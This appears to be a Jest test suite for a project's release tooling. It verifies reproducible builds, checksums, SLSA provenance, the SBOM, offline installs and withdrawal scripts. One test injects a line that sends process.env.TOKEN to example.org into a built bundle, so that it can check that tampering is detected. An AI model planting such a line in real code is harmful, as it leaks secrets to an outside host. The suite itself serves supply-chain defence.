/** A release as `npm run release -- --dry-run` makes it: the same bytes each time, of what the source builds, and it runs everywhere. */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { Spec, Validation } from '@cyclonedx/cyclonedx-library';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { writeChecksums } from '../../src/build/checksums.mjs';
import { goEnv, hasGo } from '../../src/build/go.mjs';
import { here, nameOf, systems } from '../../src/build/programs.mjs';
import { sbomOf } from '../../src/build/release/sbom.mjs';
import { root } from '../support/cli.js';
import { allNodes, missing } from '../support/nodes.js';
import { isFull, isLong } from '../support/sample.js';
import { createRepo, removeRepo } from '../support/trees.js';

const isPossible = hasGo() && process.platform === 'linux' && isLong();
if (!isPossible) console.log('skipped: making a release, which needs Go and Linux; SAMPLES=5 and .ci/run do it');
const long = isPossible ? test : test.skip;

const { version } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
const tarball = `customizer-lint-${version}.tgz`;

const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) {
    spawnSync('chmod', ['-R', 'u+w', folder]);
    rmSync(folder, { recursive: true, force: true });
  }
});

function temporary(name: string): string {
  const folder = mkdtempSync(join(tmpdir(), name));
  folders.push(folder);
  return folder;
}

const git = (cwd: string, ...args: string[]) => {
  const dates = { GIT_AUTHOR_DATE: '2026-01-02T03:04:05Z', GIT_COMMITTER_DATE: '2026-01-02T03:04:05Z' };
  const who = ['-c', 'user.name=A', '-c', 'user.email=a@example.org', '-c', 'commit.gpgsign=false'];
  return execFileSync('git', [...who, ...args], { cwd, encoding: 'utf8', env: { ...process.env, ...dates } }).trim();
};

const asked = /^__tests__\/(?:examples\/|project\/promises\.json$)/;

/**
 * What is in this checkout as the one commit of another, with what is installed and built beside it. `toBuild`: the packages lie in it,
 * as the bundler numbers modules by where they are found.
 */
function checkout({ toBuild = false } = {}): string {
  const copy = temporary('release ');
  const args = ['ls-files', '-z', '--cached', '--others', '--exclude-standard'];
  const listed = execFileSync('git', args, { cwd: root, encoding: 'utf8', maxBuffer: 1 << 28 });
  // What is below __tests__ is no part of a release, but for what is asked there.
  const wanted = (file: string) => file !== '' && (!file.startsWith('__tests__/') || asked.test(file));
  for (const file of listed.split('\0').filter(wanted)) {
    mkdirSync(dirname(join(copy, file)), { recursive: true });
    cpSync(join(root, file), join(copy, file), { verbatimSymlinks: true });
  }
  const linked = ['node_modules', 'src/engine/.build', 'src/engine/apply/registry'];
  git(copy, 'init', '-q', '-b', 'main', '.');
  writeFileSync(join(copy, '.git/info/exclude'), linked.map((name) => `/${name}\n`).join(''));
  if (toBuild) copyPackages(copy);
  for (const name of linked.slice(toBuild ? 1 : 0)) symlinkSync(join(root, name), join(copy, name));
  commit(copy);
  return copy;
}

/** By links of files, where both are on one disk. */
function copyPackages(copy: string): void {
  const copied = (how: string) => spawnSync('cp', [how, join(root, 'node_modules'), copy], { stdio: 'ignore' }).status;
  if (copied('-al') !== 0 && copied('-a') !== 0) throw new Error('node_modules cannot be copied');
}

function commit(copy: string): void {
  git(copy, 'add', '-A');
  git(copy, 'commit', '-q', '-m', 'A release');
}

type Run = { status: number | null; stdout: string; stderr: string };

/** With other processes of this one running on: a bundle takes minutes. */
function run(command: string, args: readonly string[], cwd: string, env: Record<string, string> = {}): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, { cwd, env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    const said = { stdout: '', stderr: '' };
    for (const name of ['stdout', 'stderr'] as const) child[name].on('data', (text) => (said[name] += text));
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, ...said }));
  });
}

const release = (cwd: string, ...args: string[]) => run(process.execPath, ['src/build/release.mjs', ...args], cwd);

/** The files alone, as nothing is compared before. */
async function make(copy: string, out: string): Promise<void> {
  const script = `import { make } from './src/build/release.mjs'; await make(${JSON.stringify(out)}, []);`;
  const { status, stderr } = await run(process.execPath, ['--input-type=module', '-e', script], copy);
  // On a machine that has not built the programs before, Go says which modules it fetches.
  expect({ status, stderr: stderr.replace(/^go: downloading .*\n/gm, '') }).toEqual({ status: 0, stderr: '' });
}

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
const sumsOf = (folder: string) =>
  Object.fromEntries(
    readdirSync(folder)
      .sort()
      .map((name) => [name, sha256(readFileSync(join(folder, name)))]),
  );

let first: string;
let made: string;

beforeAll(async () => {
  if (!isPossible) return;
  first = checkout({ toBuild: true });
  made = temporary('made-');
  await make(first, made);
}, 300_000);

describe('what is made', () => {
  long('is the package, what it is made of, checksums, where it is from, and notes', () => {
    const names = ['SHA256SUMS', 'customizer-lint.cdx.json', 'notes.md', 'provenance.json', tarball];
    expect(readdirSync(made).sort()).toEqual([...names].sort());
    const { status, stdout } = spawnSync('sha256sum', ['--check', '--strict', 'SHA256SUMS'], { cwd: made });
    expect({ status, stdout: stdout.toString() }).toEqual({
      status: 0,
      stdout: `${tarball}: OK\ncustomizer-lint.cdx.json: OK\n`,
    });
  });

  long(
    'is the same of the same commit in another folder, whatever rights files have there',
    async () => {
      const second = checkout();
      spawnSync('chmod', ['-R', 'g+w,o-rwx', join(second, 'dist'), join(second, 'schemas'), join(second, 'README.md')]);
      git(second, 'config', 'core.fileMode', 'false');
      const again = temporary('again-');
      await make(second, again);
      expect(sumsOf(again)).toEqual(sumsOf(made));
    },
    300_000,
  );

  long('names the commit and the files, as SLSA has it', () => {
    const statement = JSON.parse(readFileSync(join(made, 'provenance.json'), 'utf8'));
    expect(statement).toMatchObject({
      _type: 'https://in-toto.io/Statement/v1',
      predicateType: 'https://slsa.dev/provenance/v1',
    });
    const sums = sumsOf(made);
    expect(statement.subject).toEqual(
      [tarball, 'customizer-lint.cdx.json'].map((name) => ({ name, digest: { sha256: sums[name] } })),
    );
    const { buildDefinition, runDetails } = statement.predicate;
    expect(buildDefinition.resolvedDependencies[0]).toEqual({
      uri: 'git+https://github.com/cozystack/customizer-lint.git',
      digest: { gitCommit: git(first, 'rev-parse', 'HEAD') },
    });
    for (const uri of [buildDefinition.buildType, runDetails.builder.id]) expect(() => new URL(uri)).not.toThrow();
  });

  long('leads from the notes to the files of the tag', () => {
    const notes = readFileSync(join(made, 'notes.md'), 'utf8');
    expect(notes).toContain(`](https://github.com/cozystack/customizer-lint/blob/v${version}/docs/`);
    expect(notes).not.toMatch(/\]\((?!https:|#)/);
    expect(notes).not.toMatch(/^## /m);
  });
});

describe('the bill of materials', () => {
  type Component = {
    name: string;
    version: string;
    'bom-ref': string;
    purl?: string;
    hashes?: { alg: string; content: string }[];
  };
  let bom: {
    components: Component[];
    metadata: { timestamp: string };
    dependencies: { ref: string; dependsOn?: string[] }[];
  };
  const ofKind = (kind: string) => bom.components.filter(({ purl }) => purl?.startsWith(`pkg:${kind}/`));
  let text: string;
  beforeAll(async () => {
    if (!isPossible) return;
    text = await sbomOf(first, new Date('2026-01-02T03:04:05Z'));
    bom = JSON.parse(text);
  }, 120_000);

  long('is CycloneDX 1.6, with the time of the commit', async () => {
    expect(readFileSync(join(made, 'customizer-lint.cdx.json'), 'utf8')).toBe(text);
    expect(await new Validation.JsonStrictValidator(Spec.Version.v1dot6).validate(text)).toBeNull();
    expect(bom.metadata.timestamp).toBe('2026-01-02T03:04:05.000Z');
  });

  long('names the packages whose licences are in dist/, in the versions that are locked', () => {
    const { packages } = JSON.parse(readFileSync(join(root, 'package-lock.json'), 'utf8')) as {
      packages: Record<string, { version: string; integrity: string }>;
    };
    const names = new Set(Object.keys(packages).map((path) => path.replace(/^.*node_modules\//, '')));
    names.delete('');
    const licensed = readFileSync(join(root, 'dist/licenses.txt'), 'utf8').split('\n');
    const found = ofKind('npm');
    expect([...new Set(found.map(({ name }) => name))].sort()).toEqual(
      [...new Set(licensed.filter((line) => names.has(line)))].sort(),
    );
    const locked = new Set(Object.values(packages).map(({ version: of, integrity }) => `${of} ${integrity}`));
    for (const { version: of, hashes } of found)
      expect(locked).toContain(`${of} sha512-${Buffer.from(hashes?.[0]?.content ?? '', 'hex').toString('base64')}`);
  });

  long('names the Go modules that are in the programs, by what each program says of itself', () => {
    const engine = join(root, 'src/build/engine.mjs');
    const programs = execFileSync(process.execPath, [engine, `--program=${here}`], { encoding: 'utf8' })
      .trim()
      .split('\n');
    const listed = new Set(ofKind('golang').map(({ name, version: of }) => `${name} ${of}`));
    for (const program of programs) {
      const said = execFileSync('go', ['version', '-m', program], { encoding: 'utf8', env: goEnv() }).split('\n');
      const words = said.map((line) => line.trim().split('\t'));
      // A module that is replaced by another version has that on the next line; one that is replaced by a folder has no version there.
      const linked = words.flatMap(([kind, path, of], index) => {
        const [next, other, version] = words[index + 1] ?? [];
        if (kind !== 'dep') return [];
        return next === '=>' && version !== '(devel)' && version !== '' && version
          ? [`${other} ${version}`]
          : [`${path} ${of}`];
      });
      expect(linked.length).toBeGreaterThan(10);
      expect(linked.filter((one) => !listed.has(one) && !one.startsWith('customizer-lint/'))).toEqual([]);
    }
    const go = execFileSync('go', ['env', 'GOVERSION'], { encoding: 'utf8' }).trim();
    expect(listed).toContain(`std ${go.replace(/^go/, '')}`);
  });

  long('has each module that is packed, with its checksum, and leads to every component', () => {
    const files = bom.components.filter(({ name }) => name.startsWith('dist/'));
    expect(files.map(({ name, hashes }) => [name, hashes?.[0]?.content])).toEqual(
      ['apply', 'helm', 'render'].map((name) => {
        const file = `dist/engine/${name}.wasm.br`;
        return [file, sha256(readFileSync(join(root, file)))];
      }),
    );
    const needs = new Map(bom.dependencies.map(({ ref, dependsOn = [] }) => [ref, dependsOn]));
    const reached = new Set([`pkg:npm/customizer-lint@${version}`]);
    for (const ref of reached) for (const one of needs.get(ref) ?? []) reached.add(one);
    expect(bom.components.map((one) => one['bom-ref']).filter((ref) => !reached.has(ref))).toEqual([]);
  });
});

describe('there is no release', () => {
  const refused = async (cwd: string, ...args: string[]) => {
    const { status, stdout, stderr } = await release(cwd, ...args);
    expect({ status, stdout }).toEqual({ status: 1, stdout: '' });
    return stderr;
  };

  long('but by the workflow', async () => {
    const sentence = 'release: releases are published by the workflow release.yaml; here there is --dry-run\n';
    expect(await refused(root)).toBe(sentence);
    expect(await refused(root, '--withdraw', version)).toBe(sentence);
  });

  long('of another version than that of package.json, or without notes', async () => {
    expect(await refused(first, '--dry-run', '--version', '9.9.9')).toBe(
      `release: --version 9.9.9: package.json is ${version}\n`,
    );
    const changelog = join(first, 'CHANGELOG.md');
    const text = readFileSync(changelog, 'utf8');
    writeFileSync(changelog, text.replaceAll(`## ${version}`, '## 8.8.8'));
    expect(await refused(first, '--dry-run', '--version', version)).toBe(
      `release: CHANGELOG.md has no section "## ${version}"\n`,
    );
    writeFileSync(changelog, text.replace('## Unreleased', `## ${version}`));
    const promises = '__tests__/project/promises.json';
    const { sealed: _, ...rest } = JSON.parse(readFileSync(join(first, promises), 'utf8'));
    writeFileSync(join(first, promises), JSON.stringify({ ...rest, sealed: {} }));
    expect(await refused(first, '--dry-run', '--version', version)).toBe(
      `release: ${promises} has no seal of ${version}: UPDATE=1 npm run jest -- project/stability\n`,
    );
    // With it the next thing is asked: whether all this is committed.
    writeFileSync(join(first, promises), JSON.stringify({ ...rest, sealed: { [version]: '' } }));
    expect(await refused(first, '--dry-run', '--version', version)).toMatch(/^release: .* not as in the commit\n$/);
    git(first, 'checkout', '-q', '--', 'CHANGELOG.md', promises);
  });

  long('of files that are not committed', async () => {
    writeFileSync(join(first, 'new file'), '');
    expect(await refused(first, '--dry-run')).toBe('release: new file is not as in the commit\n');
    rmSync(join(first, 'new file'));
  });

  long.each(['action/index.js', 'engine/apply.wasm.br'])('with one byte of dist/%s changed', async (name) => {
    const file = join(first, 'dist', name);
    const bytes = readFileSync(file);
    writeFileSync(file, flipped(bytes));
    expect(await refused(first, '--dry-run')).toBe(
      `release: dist/${name} is not the file that was built: npm run build\n`,
    );
    writeFileSync(file, bytes);
  });

  // The next test compares a checkout that is as it should be; here both comparisons find something, which takes as long again.
  (isFull() ? long : test.skip)(
    'of a bundle or a module that the source does not build, whatever the checksums say',
    async () => {
      const copy = checkout({ toBuild: true });
      const bundle = join(copy, 'dist/engine/worker.js');
      const text = readFileSync(bundle, 'utf8');
      writeFileSync(bundle, text.replace(';', ';fetch("https://example.org/"+process.env.TOKEN);'));
      writeChecksums(join(copy, 'dist'));
      commit(copy);
      const said = await refused(copy, '--dry-run');
      expect(said).toContain('dist/engine/worker.js is not what the source builds: npm run build\n');
      expect(said).toMatch(/^-fetch\("https:\/\/example\.org\/"\+process\.env\.TOKEN\);$/m);
      expect(said).toMatch(/^release: dist\/ is not what the source builds, as said above$/m);
      writeFileSync(bundle, text);
      const module = join(copy, 'dist/engine/helm.wasm.br');
      writeFileSync(module, flipped(readFileSync(module)));
      writeChecksums(join(copy, 'dist'));
      const { status, stderr } = await run(process.execPath, ['src/build/engine.mjs', '--check'], copy);
      expect(status).toBe(1);
      expect(stderr).toMatch(/^dist\/engine\/helm\.wasm\.br is not what this tree builds:$/m);
    },
    900_000,
  );
});

/** One bit of the byte in the middle. */
function flipped(bytes: Buffer): Buffer {
  const other = Buffer.from(bytes);
  other[bytes.length >> 1] = (other[bytes.length >> 1] ?? 0) ^ 1;
  return other;
}

long(
  'npm run release -- --dry-run builds, compares and makes the same, and leaves the checkout as it is',
  async () => {
    const out = temporary('dry-run-');
    const { status, stdout, stderr } = await run(
      'npm',
      ['run', '-s', 'release', '--', '--dry-run', '--out', out],
      first,
    );
    expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
    expect(sumsOf(out)).toEqual(sumsOf(made));
    for (const name of readdirSync(out)) expect(stdout).toContain(`${join(out, name)}\n`);
    expect(git(first, 'status', '--porcelain')).toBe('');
  },
  900_000,
);

/** npm as it is installed here, to be run by any Node. */
const npmCli = () => join(execFileSync('npm', ['root', '--global'], { encoding: 'utf8' }).trim(), 'npm/bin/npm-cli.js');
const node24 = allNodes.find(({ name }) => /^Node 24\b/.test(name))?.path;

(node24 ? long : test.skip)(
  'npm packs the same in two folders, and the same tar with Node 24',
  async () => {
    const pack = async (cwd: string, node: string) => {
      const out = temporary('pack-');
      await run(node, [npmCli(), 'pack', '--ignore-scripts', '--pack-destination', out], cwd);
      return readFileSync(join(out, tarball));
    };
    const [one, other] = [await pack(first, process.execPath), await pack(checkout(), process.execPath)];
    expect(sha256(other)).toBe(sha256(one));
    expect(sha256(gunzipSync(await pack(first, node24 as string)))).toBe(sha256(gunzipSync(one)));
  },
  300_000,
);

/** A user with no rights and no network, where this one may become that. */
const isRoot = process.getuid?.() === 0;
const nobody = isRoot ? ['unshare', '--net', 'setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', '--'] : [];

describe.each(allNodes)('with $name, the tarball', ({ path: node }) => {
  long(
    'installs without network, in a path with spaces, and runs from a folder in which nothing can be written',
    async () => {
      const home = temporary('an empty machine ');
      const bin = join(home, 'bin');
      mkdirSync(bin);
      cpSync(node, join(bin, 'node'));
      const folder = join(home, 'my project');
      mkdirSync(folder);
      writeFileSync(join(folder, 'package.json'), '{"private":true}\n');
      cpSync(join(made, tarball), join(folder, tarball));
      cpSync(join(root, '__tests__/examples/broken'), join(folder, 'broken'), { recursive: true });
      chmodSync(home, 0o755);
      if (isRoot) spawnSync('chown', ['-R', '65534:65534', home]);
      const env = { HOME: home, PATH: `${bin}:/usr/bin:/bin`, npm_config_cache: join(home, '.npm') };
      const asNobody = (cwd: string, ...args: string[]) => {
        const [command = '', ...rest] = [...nobody, ...args];
        const { status, stdout, stderr } = spawnSync(command, rest, {
          cwd,
          env,
          encoding: 'utf8',
          timeout: 100_000,
        });
        return { status, stdout, stderr };
      };
      const options = ['--offline', '--no-audit', '--no-fund'];
      const installed = asNobody(folder, join(bin, 'node'), npmCli(), 'install', ...options, `./${tarball}`);
      expect(installed).toMatchObject({ status: 0, stderr: '' });
      spawnSync('chmod', ['-R', 'a-w', folder]);
      expect(asNobody(folder, 'touch', 'written').status).not.toBe(0);
      const checked = asNobody(join(folder, 'broken'), '../node_modules/.bin/customizer-lint', 'check');
      expect(checked).toEqual({
        status: 1,
        stdout: readFileSync(join(root, '__tests__/examples/broken.txt'), 'utf8'),
        stderr: '',
      });
      const packages = readdirSync(join(folder, 'node_modules')).filter((name) => !name.startsWith('.'));
      expect(packages).toEqual(['customizer-lint']);
    },
    200_000,
  );
});

for (const name of missing) test.skip(`with ${name}, the tarball: it is not here, npm test fetches it`, () => {});

/** Says what it was called with. */
const fake = '#!/bin/sh\nprintf "%s" "$(basename "$0")"; printf " [%s]" "$@"; echo\n';

long('before the first release npm has each package, which the workflow alone publishes from then on', async () => {
  const folder = createRepo({});
  const bin = createRepo({ npm: fake });
  chmodSync(join(bin, 'npm'), 0o755);
  const { status, stdout: script } = await release(root, '--first', '--dry-run');
  expect(status).toBe(0);
  const ran = await run('sh', ['-eu', '-c', script], folder, { PATH: `${bin}:${process.env.PATH}` });
  expect(ran.status).toBe(0);
  const packages = ['customizer-lint', ...Object.keys(systems).map((system) => nameOf(system))];
  expect(readdirSync(folder).sort()).toEqual(packages.toSorted());
  for (const name of packages) {
    const manifest = JSON.parse(readFileSync(join(folder, name, 'package.json'), 'utf8'));
    expect(manifest).toMatchObject({ name, version: '0.0.0' });
    const where = '[--repository] [cozystack/customizer-lint] [--file] [release.yaml] [--environment] [release]';
    const said = ran.stdout.split('\n').filter((line) => line.includes(`[${name}]`) || line.includes(`[./${name}]`));
    expect(said).toEqual([
      `npm [publish] [./${name}] [--access] [public]`,
      `npm [trust] [github] [${name}] ${where} [--allow-publish] [--yes]`,
      `npm [access] [set] [mfa=publish] [${name}]`,
    ]);
    expect(ran.stdout).toContain(`npm [deprecate] [${name}@0.0.0] `);
  }
  for (const one of [folder, bin]) removeRepo(one);
});

describe('withdrawing', () => {
  /** What the script would have npm and gh do, and what it does to a repository. */
  async function withdraw(which: string): Promise<{ said: string[]; v0: string }> {
    const origin = createRepo({});
    const work = createRepo({ 'CHANGELOG.md': '' });
    git(origin, 'init', '-q', '--bare', '.');
    git(work, 'init', '-q', '-b', 'main', '.');
    git(work, 'remote', 'add', 'origin', origin);
    for (const one of ['0.1.0', '0.2.0', '0.2.1']) {
      git(work, 'commit', '-q', '--allow-empty', '-m', one);
      git(work, 'tag', '-a', '-m', one, `v${one}`);
      git(work, 'tag', '-f', 'v0', 'HEAD');
      git(work, 'push', '-q', '--force', 'origin', 'main', 'v0', `v${one}`);
    }
    const bin = createRepo({ npm: fake, gh: fake });
    for (const name of ['npm', 'gh']) chmodSync(join(bin, name), 0o755);
    const { status, stdout: script } = await release(withReleases, '--withdraw', which, '--dry-run');
    expect(status).toBe(0);
    const ran = await run('sh', ['-eu', '-c', script], work, { PATH: `${bin}:${process.env.PATH}` });
    expect(ran.status).toBe(0);
    const tags = git(origin, 'for-each-ref', '--format=%(refname:short) %(contents:subject)', 'refs/tags');
    expect(tags).toContain('v0.2.1 0.2.1');
    for (const folder of [origin, work, bin]) removeRepo(folder);
    return { said: ran.stdout.trim().split('\n'), v0: /^v0 (.*)$/m.exec(tags)?.[1] ?? '' };
  }
  let withReleases: string;
  beforeAll(() => {
    if (!isPossible) return;
    withReleases = checkout();
    writeFileSync(join(withReleases, 'CHANGELOG.md'), '# Changelog\n\n## 0.2.1\n\n## 0.2.0 - 2026-02-01\n\n## 0.1.0\n');
  }, 60_000);

  long(
    'the newest release moves v0 back, and has npm and GitHub name the one before',
    async () => {
      const { said, v0 } = await withdraw('0.2.1');
      expect(v0).toBe('0.2.0');
      expect(said).toContain('npm [dist-tag] [add] [customizer-lint@0.2.0] [latest]');
      expect(said).toContain('npm [deprecate] [customizer-lint@0.2.1] [withdrawn, use 0.2.0]');
      expect(said.filter((line) => line.startsWith('npm [deprecate] [customizer-lint-')).length).toBe(4);
      expect(said.at(-1)).toContain('[vulnerabilities[][vulnerable_version_range]== 0.2.1]');
    },
    60_000,
  );

  long(
    'an older one leaves v0 where it is',
    async () => {
      const { said, v0 } = await withdraw('0.2.0');
      expect(v0).toBe('0.2.1');
      expect(said).toContain('npm [deprecate] [customizer-lint@0.2.0] [withdrawn, use 0.2.1]');
      expect(said.join('\n')).not.toContain('dist-tag');
    },
    60_000,
  );

  long(
    'the first one leaves v0 too, and what never was is refused',
    async () => {
      const { stdout } = await release(withReleases, '--withdraw', '9.9.9', '--dry-run');
      expect(stdout).toBe('');
      writeFileSync(join(withReleases, 'CHANGELOG.md'), '# Changelog\n\n## 0.2.0\n');
      const { said, v0 } = await withdraw('0.2.0');
      expect(v0).toBe('0.2.1');
      expect(said[0]).toBe('npm [deprecate] [customizer-lint@0.2.0] [withdrawn]');
    },
    60_000,
  );
});
